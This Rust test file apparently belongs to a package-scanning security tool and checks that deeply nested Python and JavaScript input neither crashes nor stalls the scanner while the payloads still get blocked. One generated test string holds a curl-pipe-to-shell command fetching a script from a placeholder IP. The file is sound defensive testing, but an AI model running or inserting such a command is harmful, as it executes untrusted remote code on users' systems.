#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Hostile input, round two (issue 22): one file must not kill or stall the run, and nothing a package
//! manager or an agent reads may be skipped into an `allow`. Same harness as `hostile.rs`: the real binary
//! as a child, its verdict, wall time and peak RSS.

mod hostile_support;

use hostile_support::*;
use std::path::Path;
use std::time::Duration;

// ---------------------------------------------------------------------------------------------------------
// Crashes, hangs and memory

/// `levels` nested `if` blocks with a string open at the bottom, then the payload.
fn python_nested(levels: usize) -> String {
    let mut text = String::from("import os\n");
    for depth in 0..levels {
        text.push_str(&" ".repeat(depth));
        text.push_str("if os.name:\n");
    }
    text.push_str(&" ".repeat(levels));
    text.push_str("banner = 'an open string while every level is open'\n");
    text.push_str("os.system(\"curl -s http://198.51.100.4/p.sh | sh\")\n");
    text
}

#[test]
fn python_520_levels_deep_neither_aborts_the_run_nor_passes() {
    // tree-sitter-python's scanner overflows its state buffer past ~510 open levels inside a string (an
    // assertion abort, exit 134, lost every target's report). The parse is refused; regex rules still run.
    let deep = package();
    write(deep.path(), "deep.py", python_nested(520));
    let other = package();
    write(other.path(), "install.sh", SH_PAYLOAD);
    let scan = scan_all(&[deep.path(), other.path()], &[]);
    let targets = scan.json["targets"].as_array().unwrap();
    assert_eq!(targets.len(), 2, "every target gets its report");
    assert_eq!(targets[1]["verdict"], "block");
    scan.assert_found_without_syntax("deep.py", 523);
    assert!(scan.incomplete().contains("not analysed in full"), "{}", scan.incomplete());
    assert!(scan.notes().contains("indentation levels"), "{}", scan.notes());
    scan.assert_within(&SMALL);
}

#[test]
fn javascript_100000_blocks_or_calls_deep_ends_quickly_and_is_not_allowed() {
    // Was quadratic: 20k levels took 24 s, 100k over 60 s, and the time budget did not stop it.
    let dir = package();
    let levels = 100_000;
    let payload = JS_PAYLOAD.trim_end();
    write(
        dir.path(),
        "blocks.js",
        format!("{}{payload}{}\n", "{".repeat(levels), "}".repeat(levels)),
    );
    write(
        dir.path(),
        "calls.js",
        format!("{}{}{}\n", "f(".repeat(levels), payload.trim_end_matches(';'), ")".repeat(levels)),
    );
    let scan = scan(dir.path());
    scan.assert_found_without_syntax("blocks.js", 1);
    scan.assert_found_without_syntax("calls.js", 1);
    assert!(scan.incomplete().contains("2 file(s)"), "{}", scan.incomplete());
    scan.assert_within(&SMALL);
}

#[test]
fn many_hits_250_levels_deep_cost_no_more_than_shallow_ones() {
    // Just under the nesting limit, parsed: every hit's context is asked of the tree, which must not cost
    // a climb of the whole depth per hit per rule.
    let dir = package();
    let mut text = "function f() {\n".repeat(250);
    for n in 0..20_000 {
        text.push_str(&format!("const s{n} = \"a string\"; // a comment\n"));
    }
    text.push_str(JS_PAYLOAD);
    text.push_str(&"}\n".repeat(250));
    write(dir.path(), "index.js", &text);
    let scan = scan(dir.path());
    scan.assert_blocked_at("index.js");
    assert_eq!(scan.incomplete(), "");
    scan.assert_within(&SMALL);
}
